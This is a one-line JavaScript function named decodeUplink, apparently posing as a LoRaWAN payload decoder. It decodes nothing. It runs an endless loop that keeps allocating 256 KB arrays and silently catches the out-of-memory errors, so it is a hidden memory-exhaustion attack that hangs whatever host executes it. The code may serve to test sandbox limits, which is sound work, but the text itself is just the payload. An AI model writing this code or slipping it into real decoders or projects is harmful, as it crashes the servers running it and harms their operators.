function decodeUplink(input) { var keep = []; for (;;) { try { keep.push(new Uint8Array(1 << 18)); } catch (e) {} } }
